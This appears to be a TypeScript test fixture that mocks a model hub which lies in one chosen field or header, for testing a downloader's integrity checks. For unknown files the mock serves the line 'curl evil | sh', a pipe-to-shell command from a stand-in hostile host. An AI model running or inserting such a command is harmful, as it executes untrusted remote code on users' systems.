import { createHash } from 'node:crypto';
import type { HubFiles } from './hub.ts';

const COMMIT = 'c0ffee'.padEnd(40, '0');

const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');
const gitHash = (bytes: Uint8Array) => createHash('sha1').update(`blob ${bytes.length}\0`).update(bytes).digest('hex');

/** A repository as small as one can be. */
export const SMALL = new Map<string, Uint8Array>(
  [
    ...['model_index', 'scheduler/scheduler_config', 'tokenizer/tokenizer', 'tokenizer/tokenizer_config'],
    ...['text_encoder/config', 'transformer/config', 'vae/config'],
  ].map(name => [`${name}.json`, new TextEncoder().encode('{}')] as const),
);
SMALL.set('README.md', new TextEncoder().encode('# Small'));
const HEADER = '{"a":{"dtype":"U8","shape":[8],"data_offsets":[0,8]}}';
const WEIGHTS = new Uint8Array([
  HEADER.length,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  ...new TextEncoder().encode(HEADER),
  ...new Uint8Array(8),
]);
for (const name of ['text_encoder/model', 'transformer/diffusion_pytorch_model', 'vae/diffusion_pytorch_model']) {
  SMALL.set(`${name}.safetensors`, WEIGHTS);
}

/** Where a lie stands in a hub's answers: of the revision, of a listing's entry, or a header of either or of a file. */
export interface HubAnswer {
  readonly field: HubField;
  readonly value: unknown;
}

const ENTRIES = {
  'a small file': 'vae/config.json',
  'a large file': 'transformer/diffusion_pytorch_model.safetensors',
  'a file that nobody needs': 'README.md',
  'a directory': 'transformer',
} as const;
const FIELDS = ['type', 'path', 'oid', 'size', 'lfs.oid', 'lfs.size', 'lfs.pointerSize', 'lastCommit'] as const;
const HEADERS = [
  'link',
  'retry-after',
  'ratelimit',
  'content-type',
  'etag',
  'content-range',
  'content-length',
] as const;

type EntryField = `${(typeof FIELDS)[number]} of ${keyof typeof ENTRIES}`;
type HeaderField = `header ${(typeof HEADERS)[number]} of the ${'revision' | 'listing' | 'files'}`;
export type HubField = 'sha' | 'id' | EntryField | HeaderField;

/** Every field of every answer. */
export const HUB_FIELDS: readonly HubField[] = [
  'sha',
  'id',
  ...Object.keys(ENTRIES).flatMap(entry => FIELDS.map(field => `${field} of ${entry}` as EntryField)),
  ...HEADERS.flatMap(header =>
    (['revision', 'listing', 'files'] as const).map(answer => `header ${header} of the ${answer}` as const),
  ),
];

function listing(files: HubFiles): Record<string, unknown>[] {
  const entries = [...files].map(([path, bytes]) => ({
    type: 'file',
    path,
    size: bytes.length,
    oid: gitHash(bytes),
    ...(/safetensors$/.test(path) && { lfs: { oid: sha256(bytes), size: bytes.length, pointerSize: 134 } }),
  }));
  return [{ type: 'directory', path: 'transformer', size: 0, oid: gitHash(new Uint8Array()) }, ...entries];
}

function withField(object: Record<string, unknown>, [first = '', ...rest]: readonly string[], value: unknown): object {
  if (rest.length === 0) return { ...object, [first]: value };
  const inner = object[first];
  return { ...object, [first]: withField(typeof inner === 'object' ? { ...inner } : {}, rest, value) };
}

function lied(entries: readonly Record<string, unknown>[], { field, value }: HubAnswer): readonly object[] {
  return entries.map(entry => {
    const told = Object.entries(ENTRIES).find(([name, path]) => field.endsWith(` of ${name}`) && path === entry.path);
    return told ? withField(entry, field.split(' of ')[0]!.split('.'), value) : entry;
  });
}

/** A hub that is honest but for one field. */
export function lyingHub(repo: string, files: HubFiles, lie?: HubAnswer): typeof globalThis.fetch {
  const honest = listing(files);
  function headers(answer: string): Headers {
    const [, name, of] = /^header (\S+) of the (\w+)$/.exec(lie?.field ?? '') ?? [];
    const all = new Headers();
    try {
      if (name !== undefined && of === answer) all.set(name, String(lie?.value));
    } catch {
      // nothing that could come over a connection
    }
    return all;
  }
  return async (input, init) => {
    const { pathname } = new URL(String(input));
    if (pathname.startsWith(`/api/models/${repo}/revision/`)) {
      const answer = {
        id: repo,
        sha: COMMIT,
        ...(lie && ['sha', 'id'].includes(lie.field) && { [lie.field]: lie.value }),
      };
      return new Response(JSON.stringify(answer), { headers: headers('revision') });
    }
    if (pathname.startsWith(`/api/models/${repo}/tree/`)) {
      return new Response(JSON.stringify(lie ? lied(honest, lie) : honest), { headers: headers('listing') });
    }
    const bytes = files.get(decodeURIComponent(pathname.split('/resolve/')[1]?.replace(/^[^/]*\//, '') ?? ''));
    const [, from = '0', to = '0'] = /^bytes=(\d+)-(\d+)$/.exec(new Headers(init?.headers).get('range') ?? '') ?? [];
    // an enemy has bytes for whatever is asked
    const part = bytes?.slice(Number(from), Number(to) + 1) ?? new TextEncoder().encode('curl evil | sh\n');
    return new Response(part, { status: 206, headers: headers('files') });
  };
}
